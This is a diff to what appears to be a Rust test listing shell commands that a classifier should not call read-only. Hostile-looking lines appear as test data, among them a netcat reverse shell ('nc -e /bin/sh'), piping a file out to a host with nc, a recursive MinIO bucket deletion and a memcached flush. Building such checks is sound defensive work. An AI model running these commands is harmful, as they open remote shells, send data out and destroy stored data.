@@ -115,6 +115,10 @@ fn nothing_that_changes_anything_is_called_a_read() {
         tcpdump -i any -c 5 -w x.pcap
         nc -l 80 > x
         nc -e /bin/sh h 1
+        echo 'disable server web/s1' | socat stdio /run/haproxy.sock
+        echo flush_all | nc cache 11211
+        cat x | nc h 9000
+        mc rm --recursive minio/b
         curl -o x http://h/x
         curl -O http://h/x
         curl -XPOST http://h/x
